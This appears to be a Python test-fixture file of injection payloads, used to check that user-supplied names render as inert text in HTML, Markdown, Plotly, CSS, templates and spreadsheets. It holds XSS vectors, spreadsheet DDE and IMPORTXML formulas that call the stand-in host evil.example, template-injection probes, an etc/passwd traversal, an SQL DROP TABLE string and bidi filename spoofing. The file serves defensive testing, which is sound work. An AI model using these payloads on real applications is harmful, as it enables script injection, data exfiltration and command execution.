"""What people might write into a name, and what must stay text: HTML, Markdown, Plotly, spreadsheets …

Every payload that could run sets ``window.__pwned``; every one that could fetch asks ``evil.example``;
every element that one could make has the class ``pwned`` or leads there. So one look at a page tells.
"""

RUN = "window.__pwned=1"
OUTSIDE = "http://evil.example"

HTML = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN} class=pwned>",
    f'<img src="{OUTSIDE}/i.png" class="pwned">',
    f"<svg/onload={RUN} class=pwned>",
    f"<svg><script>{RUN}</script></svg>",
    f'<iframe src="javascript:{RUN}" class=pwned></iframe>',
    f"<details open ontoggle={RUN} class=pwned>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN} class=pwned>",
    f"<math><mtext><style><img src=x onerror={RUN} class=pwned></style></mtext></math>",
    "<b class=pwned>bold</b>",
    f'<a class=pwned href="{OUTSIDE}">link</a>',
    f'<link rel=stylesheet href="{OUTSIDE}/s.css" class=pwned>',
    f'<meta http-equiv=refresh content="0;url={OUTSIDE}">',
    "<style>body{display:none}</style>",
    f'<form action="{OUTSIDE}" class=pwned><button>go',
    "<!-- <b class=pwned> -->",
    f"&lt;img src=x onerror={RUN}&gt;",
    "</span></div></body><b class=pwned>out",
)
ATTRIBUTES = (
    f'" onmouseover="{RUN}" class="pwned',
    f"' autofocus onfocus='{RUN}",
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"`;{RUN};`",
    f"\\';{RUN};//",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"{OUTSIDE}/plain",
    f"//{OUTSIDE[7:]}/relative",
    "www.evil.example",
    "mailto:a@evil.example",
)
MARKDOWN = (
    f"[pwned]({OUTSIDE})",
    f"[pwned](javascript:{RUN})",
    f"![pwned]({OUTSIDE}/m.png)",
    f"<{OUTSIDE}/auto>",
    "**pwned** __pwned__ ~~pwned~~",
    "`pwned` ```pwned```",
    ":red[pwned] :material/warning: :streamlit:",
    "$pwned^2$ $$\\href{http://evil.example}{pwned}$$",
    "# pwned",
    f"[^pwned]: [1]: {OUTSIDE}",
)
PLOTLY = (
    "<b>pwned</b> <i>pwned</i> <sup>pwned</sup>",
    f'<a href="{OUTSIDE}">pwned</a>',
    f'<a href="javascript:{RUN}">pwned</a>',
    '<span style="color:red;font-size:99px">pwned</span><br>pwned',
    "%{customdata} %{x} <extra>pwned</extra>",
    "$\\text{pwned}$",
)
STYLES = (
    f"');background:url({OUTSIDE}/c.png);x:('",
    f"url({OUTSIDE}/u.png)",
    "}}body{display:none}:root{--desk-ink:red",
)
TEMPLATES = (
    "{name} {0} {0.__class__.__mro__} {missing}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s %(name)s %n %d",
    "\\u003cimg src=x onerror=1\\u003e \\x3c",
    "../../etc/passwd",
    "'; DROP TABLE submission; --",
)
SPREADSHEET = (
    f'=HYPERLINK("{OUTSIDE}","pwned")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f'=IMPORTXML(CONCAT("{OUTSIDE}/",A1),"//a")',
    "＝1+1",
    "'=1+1",
)
# What cannot be seen: kept out of people's names, but a file may hold it anywhere.
INVISIBLE = (
    "ab\u202egnp.exe\u202c",
    "\u2066pwned\u2069 \u2067pwned",
    "pay\u200bload\u200d\ufeff",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 4,
)
LONG = ("W" * 300, "很长的名称" * 60, "a " * 150)

VISIBLE = (*HTML, *ATTRIBUTES, *ADDRESSES, *MARKDOWN, *PLOTLY, *STYLES, *TEMPLATES, *SPREADSHEET)
PAYLOADS = (*VISIBLE, *INVISIBLE, *LONG)
# Something of everything in one line, where only one name can be given.
MIXED = f"<img src=x onerror={RUN} class=pwned>**pwned**[pwned]({OUTSIDE})"
